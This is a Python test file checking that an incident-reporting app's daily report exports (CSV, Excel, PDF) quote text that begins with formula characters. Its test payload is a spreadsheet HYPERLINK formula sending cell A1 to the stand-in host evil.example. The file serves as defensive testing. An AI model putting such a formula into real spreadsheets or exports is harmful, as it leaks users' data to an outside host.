"""Text from outside leaves in the report's files as text: no export hands a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from application.cells import FORMULA_START, neutralise
from tests.integration.world import build_world, command_id, record

LEADS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"详情")'


@pytest.mark.parametrize("lead", LEADS + ("\uff1d",))
def test_text_starting_like_a_formula_gets_a_quote_and_numbers_stay_numbers(lead):
    assert lead in FORMULA_START
    assert neutralise(lead + PAYLOAD) == "'" + lead + PAYLOAD
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert neutralise("人民路100号") == "人民路100号" and neutralise("—") == "—"


@pytest.fixture(scope="module")
def cancelled(tmp_path_factory):
    """A world with one waterlogging report per leading character, each cancelled with a formula as its reason."""
    world = build_world(tmp_path_factory.mktemp("cells"))
    client, team = world.onemap.server.test_client(), world.services.district.teams[world.team["T01"]]
    reasons = {}
    for n, lead in enumerate(LEADS):
        r = client.post(
            "/api/v1/records",
            headers=world.headers("system"),
            json=record(f"CELL-{n}", team.lon + n * 1e-3, team.lat, category="waterlogging", summary=lead + PAYLOAD),
        )
        iid = r.get_json()["results"][0]["incident_id"]
        r = client.post(
            f"/api/v1/incidents/{iid}/cancel",
            headers=world.headers("commander"),
            json={"reason": lead + PAYLOAD, "command_id": command_id()},
        )
        assert r.status_code == 200, r.get_json()
        reasons[iid] = client.get(f"/api/v1/incidents/{iid}", headers=world.headers("commander")).get_json()["note"]
    assert [r for r in reasons.values() if r.startswith(("=", "+", "-", "@"))]  # what the API keeps of each
    return world, client, reasons


def export(world, client, fmt: str) -> bytes:
    r = client.get(f"/api/v1/reports/daily?format={fmt}", headers=world.headers("commander"))
    assert r.status_code == 200
    return r.data


def test_every_cancel_reason_in_the_csv_starts_with_a_quote_and_the_counts_stay_numbers(cancelled):
    world, client, reasons = cancelled
    rows = list(csv.reader(io.StringIO(export(world, client, "csv").decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    for reason in reasons.values():  # a reason kept without its lead (the API strips tabs) is plain text
        assert ("'" + reason in cells and reason not in cells) if reason.startswith(FORMULA_START) else reason in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    by_source = rows[[r[:1] for r in rows].index(["# by_source"]) + 2]
    assert by_source[1].isdigit()


def test_every_cancel_reason_in_the_workbook_is_a_text_cell_never_a_formula(cancelled):
    world, client, reasons = cancelled
    book = load_workbook(io.BytesIO(export(world, client, "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for reason in reasons.values():
        assert texts[reason].data_type == "s" and texts[reason].quotePrefix == reason.startswith(FORMULA_START)
    assert any(
        isinstance(c.value, int) and c.data_type == "n" for c in book["by_source"].iter_rows(min_row=4) for c in c
    )


def test_the_pdf_shows_the_reasons_as_they_were_written(cancelled):
    world, client, _reasons = cancelled
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(export(world, client, "pdf"))).pages)
    assert "HYPERLINK" in text
